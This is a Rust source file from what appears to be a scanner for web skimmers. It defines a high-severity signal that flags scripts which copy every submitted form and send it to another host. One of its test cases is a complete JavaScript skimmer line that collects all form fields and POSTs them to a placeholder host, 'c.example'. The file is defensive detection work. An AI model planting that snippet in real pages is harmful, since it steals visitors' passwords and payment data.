//! `every-form-copied`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-form-copied",
    description: "The script reads every form on this page when it is submitted and sends the contents to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::AnyForm]), one(&[Atom::FieldSentAbroad])],
    within: 900,
    only_if: Some(takes_secrets),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.addEventListener('submit',e=>{const d={};new FormData(e.target).forEach((v,k)=>{d[k]=v});fetch('http://c.example',{method:'POST',body:JSON.stringify(d)})})",
        ],
        without: &[
            "document.addEventListener('submit',e=>{const f=e.target;fetch(f.action,{method:'POST',body:new FormData(f)})})",
            "f.addEventListener('submit',()=>fetch('https://c.example/subscribe',{body:new FormData(f)}))",
            r#"document.addEventListener('submit',function(e){var v={};for(var i=0;i<e.target.elements.length;i++){var f=e.target.elements[i];if(f.type==='password'||/card|cvv|pass/.test(f.name))continue;v[f.name]=f.value}navigator.sendBeacon('https://forms.tide.example/c',JSON.stringify(v))},true)"#,
        ],
    },
};

/// Whether passwords and cards are not left out just there, as tools that know customers by their forms do: `if (field.type ===
/// 'password') continue`, `/pass|card|cvv/`.
fn takes_secrets(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    let named = near.texts().filter(|(_, text)| text.contains("pass") && text.len() < 200).map(|(at, _)| at);
    let left_out = |at: usize| {
        let compared =
            near.item(at.wrapping_sub(1)).is_some_and(|item| item.kind == Kind::Op && item.op.compares());
        let tested = near.kind(at) == Some(Kind::Regex) && near.word(at).contains("card");
        compared || tested
    };
    !named.into_iter().any(left_out)
}
